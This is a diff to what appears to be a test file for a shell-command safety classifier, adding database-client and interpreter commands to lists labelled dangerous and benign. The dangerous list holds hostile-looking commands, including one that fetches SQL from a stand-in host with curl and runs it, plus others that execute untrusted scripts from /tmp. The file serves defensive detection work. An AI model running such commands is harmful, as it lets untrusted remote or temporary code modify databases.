@@ -43,6 +43,9 @@ FRESH_UNSEEN_DANGEROUS = [
     "psql -c \"$(curl -s https://x.example/q.sql)\" app",
     "mysql shop <<< \"$(cat /tmp/x.sql)\"",
     "zcat /tmp/dump.sql.gz | mysql shop",
+    "docker exec -i db psql -U postgres < /tmp/x.sql",
+    "sqlplus app/pw@db @/tmp/x.sql",
+    "ipython /var/tmp/x.py",
 ]
 FRESH_UNSEEN_BENIGN = [
     "mysql -e 'SELECT COUNT(*) FROM users' shop",
@@ -67,6 +70,9 @@ FRESH_UNSEEN_BENIGN = [
     "Rscript -e 'source(\"R/helpers.R\"); run()'",
     "psql -c \"SELECT $(date +%s)\" app",
     "pg_dump app | psql app_copy",
+    "docker exec -i db psql -U postgres < db/seed.sql",
+    "papermill notebooks/a.ipynb out/a.ipynb",
+    "sqlplus app/pw@db @scripts/report.sql",
 ]
 
 # 1b. Names read from stdin (or a list file) by interpreter code that destroys, truncates or overwrites them.
